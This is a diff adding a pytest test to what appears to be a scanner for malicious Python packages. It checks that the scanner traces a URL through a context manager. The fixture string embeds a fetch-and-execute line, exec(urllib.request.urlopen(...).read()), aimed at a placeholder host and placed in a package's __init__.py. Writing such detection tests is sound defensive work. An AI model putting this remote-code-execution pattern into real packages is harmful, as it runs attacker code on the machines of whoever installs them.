@@ -70,3 +70,26 @@ def test_a_property_that_is_kept() -> None:
     kind = f"class C:\n    @functools.cached_property\n    def x(self):\n        {HARM}\n"
     assert moments(kind + "C().x") == {Reach.IMPORT}
     assert moments(kind + "C()") == {Reach.CALL}
+
+
+@pytest.mark.parametrize("end", ["enter", "exit"])
+def test_what_with_calls_takes_part_in_what_flows(end: str) -> None:
+    """Nothing is bound by the statement, and the address comes by way of the object."""
+    other = {"enter": "exit", "exit": "enter"}[end]
+    kind = f"""class C:
+    def __init__(self, where):
+        self.where = where
+    def __{end}__(self, *given):
+        exec(urllib.request.urlopen(self.where).read())
+    def __{other}__(self, *given):
+        pass
+with C("http://a.example.invalid/x"):
+    pass
+"""
+    programs = [
+        one
+        for one in wheel({"pkg/__init__.py": f"import urllib.request\n{kind}"}).facts
+        if isinstance(one, Program)
+    ]
+    told = [mark.spot.what for one in programs for flow in one.flows for mark in flow.carries]
+    assert any("http://a.example.invalid/x" in one for one in told), told
